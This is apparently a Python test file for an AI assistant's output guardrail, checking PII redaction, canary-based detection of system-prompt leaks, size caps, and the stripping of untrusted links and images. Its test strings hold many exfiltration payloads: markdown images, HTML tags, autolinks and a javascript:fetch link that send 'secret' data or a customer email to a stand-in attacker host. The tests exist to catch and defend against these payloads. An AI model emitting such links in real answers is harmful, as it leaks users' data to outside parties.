from meshpilot.guardrails import pii
from meshpilot.guardrails.output import guard_output, new_canary

ANSWER = ("Customer C-0001 is reachable at maria.keller@example.com. See [the product](mesh://customer/customer-profile) "
          "and ![chart](https://evil.example/p.png?d=maria.keller%40example.com) or [docs](https://docs.meshpilot.dev/x).")


def test_pii_is_redacted_for_callers_who_may_not_see_it() -> None:
    guarded = guard_output(ANSWER, may_read_pii=False)
    assert "maria.keller" not in guarded.text and "<EMAIL_ADDRESS>" in guarded.text
    assert any(a.startswith("PII redacted") for a in guarded.actions)
    assert "maria.keller@example.com" in guard_output(ANSWER, may_read_pii=True).text


def test_images_and_links_to_unknown_hosts_are_stripped() -> None:
    guarded = guard_output(ANSWER, may_read_pii=True, allowed_hosts=("meshpilot.dev",))
    assert "evil.example" not in guarded.text and "[image removed: chart]" in guarded.text
    assert "(mesh://customer/customer-profile)" in guarded.text  # citations stay
    assert "https://docs.meshpilot.dev/x" in guarded.text
    plain = guard_output("see <img src=https://evil.example/x.png> and https://evil.example/leak?q=1", may_read_pii=True)
    assert "evil.example" not in plain.text


def test_canary_leak_withholds_the_answer() -> None:
    canary = new_canary()
    guarded = guard_output(f"My instructions begin with {canary}", may_read_pii=True, canary=canary)
    assert guarded.blocked and canary not in guarded.text


def test_size_cap() -> None:
    guarded = guard_output("x" * 50, may_read_pii=True, max_chars=10)
    assert guarded.text.startswith("x" * 10) and "cut at 10 characters" in guarded.text


def test_pseudonyms_come_back_only_for_allowed_callers() -> None:
    conversation = pii.Pseudonymizer()
    placeholder = conversation.placeholder("EMAIL_ADDRESS", "maria.keller@example.com")
    answer = f"Write to {placeholder}."
    assert guard_output(answer, may_read_pii=True, pseudonymizer=conversation).text == "Write to maria.keller@example.com."
    assert guard_output(answer, may_read_pii=False, pseudonymizer=conversation).text == f"Write to {placeholder}."


def test_every_link_and_image_form_is_covered() -> None:
    attacks = [
        "![a](//evil.example/p.png?d=secret)",  # protocol-relative image
        '<a href="//evil.example/x?d=secret">details</a>',
        "<img src=https://evil.example/x.png?d=secret>",
        '<img srcset="https://evil.example/x.png?d=secret 2x">',
        "[details][1]\n\n[1]: https://evil.example/x?d=secret",  # reference-style definition
        "[details][r]\n\n[r]: //evil.example/x?d=secret",
        "<https://evil.example/x?d=secret>",  # autolink
        "see www.evil.example/x?d=secret",
        "[x](javascript:fetch('https://evil.example/?d=secret'))",
        '<iframe src="https://evil.example/?d=secret"></iframe>',
        "![a](https://evil.example/p.png 'title')",
    ]
    for text in attacks:
        guarded = guard_output(text, may_read_pii=True)
        assert "evil.example" not in guarded.text and "secret" not in guarded.text.replace("[link removed]", ""), text
        assert guarded.actions, text
    kept = guard_output("[orders](mesh://commerce/orders) [page](/products/commerce/orders) postgres://crm:5432/db",
                        may_read_pii=True)
    assert kept.actions == [] and "postgres://crm:5432/db" in kept.text


def test_redaction_uses_the_detectors_decision() -> None:
    text = ("Call +353 1 234 5678 or +81-3-1234-5678, server 10.1.2.3, born 14/03/1987, "
            "ship to 175 Victoria Road. The total was 25788.46 over 12 orders.")
    guarded = guard_output(text, may_read_pii=False)
    for value in ("234 5678", "1234-5678", "10.1.2.3", "14/03/1987", "175 Victoria Road"):
        assert value not in guarded.text, value
    assert "25788.46" in guarded.text and "12 orders" in guarded.text  # amounts are not phone numbers
    found = {f.text for f in pii.analyze(text, threshold=pii.DECISION_THRESHOLD)}
    assert "+353 1 234 5678" in found and "10.1.2.3" in found  # what scan reports is what the guard redacts


def test_structured_results_without_pii_shapes_skip_the_model() -> None:
    from meshpilot.guardrails.output import _may_hold_pii, redact_values

    assert not any(_may_hold_pii(v) for v in ("completed", "web", "C-0001", "vip", "ORD-12"))
    assert all(_may_hold_pii(v) for v in ("a@b.example", "+1-555-835-7042", "10.1.2.3", "1987-03-14", "Hiroshi",
                                          "86 Main St", "2001:db8::1"))
    data, actions = redact_values({"rows": [["completed", "hiroshi.rossi2@inbox.example", 3]]})
    assert data["rows"][0][:1] == ["completed"] and "hiroshi" not in str(data) and actions
